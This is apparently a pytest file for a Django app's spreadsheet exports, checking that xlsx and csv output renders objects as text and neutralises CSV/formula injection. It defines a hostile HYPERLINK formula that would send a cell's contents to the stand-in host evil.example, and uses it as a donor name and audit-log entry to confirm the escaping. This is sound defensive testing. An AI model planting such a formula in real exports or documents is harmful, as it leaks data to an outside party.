"""A spreadsheet download never fails on a cell that holds an object instead of plain text."""

import io

import openpyxl
import pytest
from django.utils.translation import gettext_lazy

from core.exports import xlsx_bytes

pytestmark = pytest.mark.django_db


def test_an_xlsx_export_writes_a_user_and_a_lazy_label_as_their_text(personas):
    verifier = personas["verifier"]
    data = xlsx_bytes(["Petugas", "Status"], [[verifier, gettext_lazy("Terbuka")]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [cell.value for cell in sheet[2]] == [str(verifier), "Terbuka"]


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised_in_csv(start):
    from core.exports import csv_response

    response = csv_response(["Nama"], [[f"{start}1+1"], ["Sukiman"], [-5]], "x")
    body = b"".join(response.streaming_content).decode()
    lines = body.lstrip("\ufeff").split("\r\n")
    assert lines[1].strip('"').startswith(f"'{start}1+1")
    assert lines[2] == "Sukiman"
    assert lines[3] == "-5"  # a number stays a number


def test_a_donor_named_as_a_formula_is_text_in_xlsx_and_csv():
    from core.exports import csv_response

    data = xlsx_bytes(["Nama", "Jumlah"], [[HOSTILE, 50000], ["Sukiman", -1]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    assert sheet["B2"].value == 50000 and sheet["B3"].value == -1
    body = b"".join(csv_response(["Nama"], [[HOSTILE]], "x").streaming_content).decode()
    assert "\n=HYPERLINK" not in body and "'=HYPERLINK" in body


def test_every_list_export_neutralises_a_hostile_name(personas, login):
    from core.audit import audit_log

    # The audit list exports through the same module as every other list.
    audit_log(personas["verifier"], "core.test", object_repr=HOSTILE)
    response = login(personas["auditor"]).get("/audit/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(v == "'" + HOSTILE for v in values)
    assert not any(v.startswith("=") for v in values)
